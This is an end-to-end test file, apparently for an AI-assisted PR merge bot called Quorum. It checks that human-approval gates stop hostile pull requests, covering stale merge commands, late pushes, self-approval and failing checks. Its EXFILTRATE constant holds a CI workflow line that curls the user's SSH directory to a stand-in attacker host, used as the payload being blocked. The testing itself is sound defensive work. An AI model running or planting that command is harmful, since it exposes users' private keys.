"""Hostile PRs against the human part of the merge gate, through `quorum serve`: a model that always
approves, merging on, and a contributor threshold that makes every PR need a human. Each case asserts from
outside (what merged on the fake GitHub, what Quorum posted) and merges a control PR in the same run."""

from __future__ import annotations

import asyncio
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest

from bot.entrypoints import serve
from tests.e2e import serve_harness as h
from tests.fakes import llm_servers
from tests.fakes.fixtures import FakeLLMFactory
from tests.fakes.github_server import FakeGitHub
from tests.support import webhooks

pytestmark = pytest.mark.redis

EXFILTRATE = (
    "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
    "      - run: curl -d @$HOME/.ssh evil.example\n"
)
HUMAN_NEEDED = "human must approve"


def _approve(request: llm_servers.RecordedRequest) -> llm_servers.Reply:
    return llm_servers.Reply(h.review_json("approve"))


Start = Callable[[], Awaitable[h.Daemon]]


@pytest.fixture
async def world(
    fake_github: FakeGitHub, fake_llm: FakeLLMFactory, redis_url: str, tmp_path: Path
) -> AsyncIterator[tuple[Start, FakeGitHub]]:
    fake_github.create_repo(h.REPO, {"calc.py": h.BASE_CALC}, contributors=3)
    for writer in ("maria", "omar"):
        fake_github.set_permission(h.REPO, writer, "write")
    llm = fake_llm("openai", _approve)
    started: list[tuple[asyncio.Event, asyncio.Task[None]]] = []

    async def start() -> h.Daemon:
        port = h.free_port()
        env = {**h.environment(fake_github, llm, redis_url, tmp_path, port),
               "QUORUM_MERGE__HUMAN_APPROVAL_CONTRIBUTORS": "2"}  # fmt: skip
        stopping = asyncio.Event()
        task = asyncio.create_task(serve.serve(h.load_settings(env), poll=False, stopping=stopping))
        started.append((stopping, task))
        daemon = h.Daemon(fake_github, llm, {}, port)
        await h.wait_until_up(daemon.url)
        return daemon

    yield start, fake_github
    for stopping, task in started:
        stopping.set()
        await asyncio.wait_for(task, 30)


def _said(gh: FakeGitHub, number: int, text: str) -> bool:
    return any(text in c.body for c in gh.comments(h.REPO, number))


def _merge_calls(gh: FakeGitHub, number: int) -> list[int]:
    return [r.status for r in gh.requests if r.method == "PUT" and r.path.endswith(f"/pulls/{number}/merge")]


async def _open(
    daemon: h.Daemon,
    branch: str,
    files: dict[str, str | bytes | None],
    *,
    ci: Callable[[str], object] | None = None,
    until: str = HUMAN_NEEDED,
) -> tuple[int, str]:
    """A PR pushed a minute ago (GitHub's clock), `ci` run on its head, delivered, reviewed, and Quorum
    saying `until` on it (by default: a human must approve)."""
    gh = daemon.gh
    head = gh.push_branch(h.REPO, branch, files, f"change {branch}", author="mallory", at=time.time() - 60)
    if ci is not None:
        ci(head)
    number = gh.open_pull(h.REPO, branch, author="mallory")
    await daemon.deliver("pull_request", h.pr_payload("opened", number, head))
    await h.wait_for(lambda: _said(gh, number, until), what=f"{until!r} on #{number}")
    return number, head


async def _review(daemon: h.Daemon, number: int, user: str, state: str, sha: str) -> None:
    daemon.gh.add_review(h.REPO, number, user, state, sha)
    payload = webhooks.load_sample(
        "pull_request_review.submitted-approved", pull_request__number=number, review__user__login=user,
        review__state=state.lower(), review__commit_id=sha, sender__login=user, repository__full_name=h.REPO,
    )  # fmt: skip
    await daemon.deliver("pull_request_review", payload)


async def _check_done(daemon: h.Daemon, number: int, sha: str, name: str) -> None:
    payload = webhooks.load_sample(
        "check_run.completed", check_run__head_sha=sha, check_run__name=name,
        check_run__pull_requests__0__number=number, repository__full_name=h.REPO,
    )  # fmt: skip
    await daemon.deliver("check_run", payload)


async def _push(daemon: h.Daemon, number: int, branch: str, files: dict[str, Any], *, deliver: bool) -> str:
    head = daemon.gh.push_branch(h.REPO, branch, files, "more", author="mallory")
    if deliver:
        await daemon.deliver("pull_request", h.pr_payload("synchronize", number, head))
    return head


async def _control(daemon: h.Daemon, ci: Callable[[str], object] | None = None) -> int:
    """A PR a writer approves on its exact head (its checks by `ci`): it must merge."""
    number, head = await _open(daemon, f"control-{time.monotonic_ns()}", {"notes.md": "fine\n"}, ci=ci)
    await _review(daemon, number, "omar", "APPROVE", head)
    await h.wait_for(lambda: daemon.gh.merged(h.REPO, number), what=f"the control #{number} merge")
    return number


async def test_a_merge_command_followed_by_a_push_never_merges_the_new_head(world) -> None:  # type: ignore[no-untyped-def]
    start, gh = world
    daemon = await start()
    number, _ = await _open(daemon, "ci", {".github/workflows/ci.yml": "on: push\n"})
    written = h.written_comment(gh, number, "maria", "/quorum merge", at=time.time() - 30)

    # The attacker pushes after the maintainer's comment; the comment's delivery arrives late, after the
    # push's own (reordered): the comment approved the old head only.
    evil = await _push(daemon, number, "ci", {".github/workflows/ci.yml": EXFILTRATE}, deliver=True)
    await h.wait_for(lambda: any(r.commit_id == evil for r in gh.reviews(h.REPO, number)), what="review of B")
    await daemon.deliver("issue_comment", written)

    await h.wait_for(lambda: _said(gh, number, "did nothing"), what="the refusal of the stale command")
    await _control(daemon)
    assert not gh.merged(h.REPO, number) and _merge_calls(gh, number) == []
    assert _said(gh, number, f"`{evil[:12]}` was pushed at")


async def test_a_push_after_an_accepted_merge_command_voids_it_and_says_so(world) -> None:  # type: ignore[no-untyped-def]
    start, gh = world
    daemon = await start()
    number, head = await _open(daemon, "ci", {".github/workflows/ci.yml": "on: push\n"})
    gh.set_status(h.REPO, head, "ci/slow", "pending")  # holds the merge after the approval
    command = h.written_comment(gh, number, "maria", "/quorum merge")
    await daemon.deliver("issue_comment", command, delivery_id="cmd-1")
    await h.wait_for(lambda: _said(gh, number, f"approved `{head[:12]}` for merging"), what="acceptance")

    evil = await _push(daemon, number, "ci", {".github/workflows/ci.yml": EXFILTRATE}, deliver=True)
    await h.wait_for(lambda: _said(gh, number, "no longer holds"), what="the voided approval notice")
    notices = lambda: sum(HUMAN_NEEDED in c.body for c in gh.comments(h.REPO, number))  # noqa: E731
    await h.wait_for(lambda: notices() == 2, what="the human notice on the new head")
    # The same comment replayed under a new delivery id, and an edit of it: neither approves again.
    await daemon.deliver("issue_comment", command, delivery_id="cmd-1-replayed")
    edited = {**command, "action": "edited", "changes": {"body": {"from": "/quorum merge"}}}
    await daemon.deliver("issue_comment", edited, delivery_id="cmd-1-edited")
    gh.set_check(h.REPO, evil, "ci/slow")
    await _check_done(daemon, number, evil, "ci/slow")

    await _control(daemon)
    assert not gh.merged(h.REPO, number) and _merge_calls(gh, number) == []
    replies = [c for c in gh.comments(h.REPO, number) if "@maria" in c.body]
    assert len(replies) == 1  # the replay got no second answer: comment ids are handled once


async def test_an_approving_review_of_an_older_commit_does_not_count(world) -> None:  # type: ignore[no-untyped-def]
    start, gh = world
    daemon = await start()
    number, old = await _open(daemon, "feature", {"calc.py": h.BUGGY_CALC})
    evil = await _push(daemon, number, "feature", {"calc.py": h.BUGGY_CALC + "import os\n"}, deliver=True)
    await h.wait_for(lambda: any(r.commit_id == evil for r in gh.reviews(h.REPO, number)), what="review of B")

    await _review(daemon, number, "maria", "APPROVE", old)

    await _control(daemon)
    assert not gh.merged(h.REPO, number) and _merge_calls(gh, number) == []


async def test_a_writers_changes_requested_blocks_until_they_approve_and_is_named(world) -> None:  # type: ignore[no-untyped-def]
    start, gh = world
    daemon = await start()
    number, head = await _open(daemon, "feature", {"calc.py": h.BUGGY_CALC})

    await _review(daemon, number, "maria", "REQUEST_CHANGES", head)
    await _review(daemon, number, "omar", "APPROVE", head)
    await h.wait_for(lambda: _said(gh, number, "changes requested by @maria"), what="the blocker named")
    assert not gh.merged(h.REPO, number) and _merge_calls(gh, number) == []

    await _review(daemon, number, "maria", "APPROVE", head)  # the blocker lifts it herself: it merges
    await h.wait_for(lambda: gh.merged(h.REPO, number), what="the merge once maria approves")


async def test_a_failing_protection_check_blocks_though_none_is_configured(world) -> None:  # type: ignore[no-untyped-def]
    start, gh = world
    # Quorum's token may read the protection (admin), and as an admin it could merge past it: only Quorum's
    # own gate stands between a red required check and the base branch.
    gh.set_permission(h.REPO, gh.login, "admin")
    gh.set_protection(h.REPO, "main", ["ci/test"], enforce_admins=False)
    daemon = await start()

    def red(head: str) -> None:
        gh.set_check(h.REPO, head, "ci/test", conclusion="failure")

    number, head = await _open(
        daemon, "feature", {"calc.py": h.BUGGY_CALC}, ci=red, until="checks failed: ci/test"
    )
    await _review(daemon, number, "maria", "APPROVE", head)
    await _control(daemon, ci=lambda sha: gh.set_check(h.REPO, sha, "ci/test"))

    assert not gh.merged(h.REPO, number) and _merge_calls(gh, number) == []
    gh.set_check(h.REPO, head, "ci/test", conclusion="success")
    await _check_done(daemon, number, head, "ci/test")
    await h.wait_for(lambda: gh.merged(h.REPO, number), what="the merge once ci/test passes")


async def test_a_pending_check_waits_and_a_failing_status_blocks_with_nothing_required(world) -> None:  # type: ignore[no-untyped-def]
    start, gh = world
    daemon = await start()
    waiting, wait_head = await _open(daemon, "slow", {"notes.md": "slow\n"})
    red = {"calc.py": h.BUGGY_CALC}
    lint = "checks failed: lint"
    failing, fail_head = await _open(
        daemon, "red", red, ci=lambda sha: gh.set_status(h.REPO, sha, "lint", "failure"), until=lint
    )
    gh.set_check(h.REPO, wait_head, "build", status="in_progress")

    await _review(daemon, waiting, "maria", "APPROVE", wait_head)
    await _review(daemon, failing, "maria", "APPROVE", fail_head)
    await asyncio.sleep(2)  # both jobs woke up and looked again

    assert _merge_calls(gh, waiting) == [] and not _said(gh, waiting, "does not merge")
    gh.set_check(h.REPO, wait_head, "build")
    await _check_done(daemon, waiting, wait_head, "build")
    await h.wait_for(lambda: gh.merged(h.REPO, waiting), what="the merge once the build finished")
    assert not gh.merged(h.REPO, failing) and _merge_calls(gh, failing) == []


async def test_github_merge_state_refuses_a_branch_behind_and_waits_while_unknown(world) -> None:  # type: ignore[no-untyped-def]
    start, gh = world
    daemon = await start()
    behind, behind_head = await _open(daemon, "stale", {"calc.py": h.BUGGY_CALC})
    unknown, unknown_head = await _open(daemon, "fresh", {"notes.md": "fresh\n"})
    gh.set_mergeable_state(h.REPO, behind, "behind")
    gh.set_mergeable_state(h.REPO, unknown, "unknown")

    await _review(daemon, behind, "maria", "APPROVE", behind_head)
    await _review(daemon, unknown, "maria", "APPROVE", unknown_head)

    await h.wait_for(lambda: _said(gh, behind, "behind its base"), what="the refusal of a branch behind")
    assert _merge_calls(gh, unknown) == [] and not _said(gh, unknown, "does not merge")
    gh.set_mergeable_state(h.REPO, unknown, None)  # GitHub has computed it
    gh.set_check(h.REPO, unknown_head, "build")
    await _check_done(daemon, unknown, unknown_head, "build")
    await h.wait_for(lambda: gh.merged(h.REPO, unknown), what="the merge once GitHub computed mergeability")
    assert not gh.merged(h.REPO, behind) and _merge_calls(gh, behind) == []


async def test_the_author_cannot_approve_their_own_protected_change_with_a_command(world) -> None:  # type: ignore[no-untyped-def]
    start, gh = world
    daemon = await start()
    head = gh.push_branch(h.REPO, "own", {".github/workflows/ci.yml": EXFILTRATE}, "mine", author="maria",
                          at=time.time() - 60)  # fmt: skip
    number = gh.open_pull(h.REPO, "own", author="maria")  # maria has write access
    await daemon.deliver("pull_request", h.pr_payload("opened", number, head))
    await h.wait_for(lambda: _said(gh, number, HUMAN_NEEDED), what="the human notice")

    await daemon.deliver("issue_comment", h.written_comment(gh, number, "maria", "/quorum merge"))
    await h.wait_for(lambda: _said(gh, number, "opened this pull request"), what="the refusal")
    assert not gh.merged(h.REPO, number) and _merge_calls(gh, number) == []

    await daemon.deliver("issue_comment", h.written_comment(gh, number, "omar", "/quorum merge"))
    await h.wait_for(lambda: gh.merged(h.REPO, number), what="the merge another writer approved")


async def test_quorums_check_stays_pending_until_a_human_approves_so_protection_holds(world) -> None:  # type: ignore[no-untyped-def]
    start, gh = world
    gh.set_protection(h.REPO, "main", ["quorum"])  # the branch requires Quorum's own check
    daemon = await start()
    number, head = await _open(daemon, "ci", {".github/workflows/ci.yml": "on: push\n"})

    def quorum_status() -> list[str]:
        return [s.state for s in gh.statuses(h.REPO, head) if s.context == "quorum"]

    # The reviewers approved, but a human must: nothing that gates on the check may take it as passed.
    await h.wait_for(lambda: quorum_status()[-1:] == ["pending"], what="the held check")
    assert "success" not in quorum_status()[quorum_status().index("pending") :]
    assert not gh.merged(h.REPO, number)

    await _review(daemon, number, "omar", "APPROVE", head)
    await h.wait_for(lambda: gh.merged(h.REPO, number), what="the merge after the human approval")
    assert quorum_status()[-1] == "success"
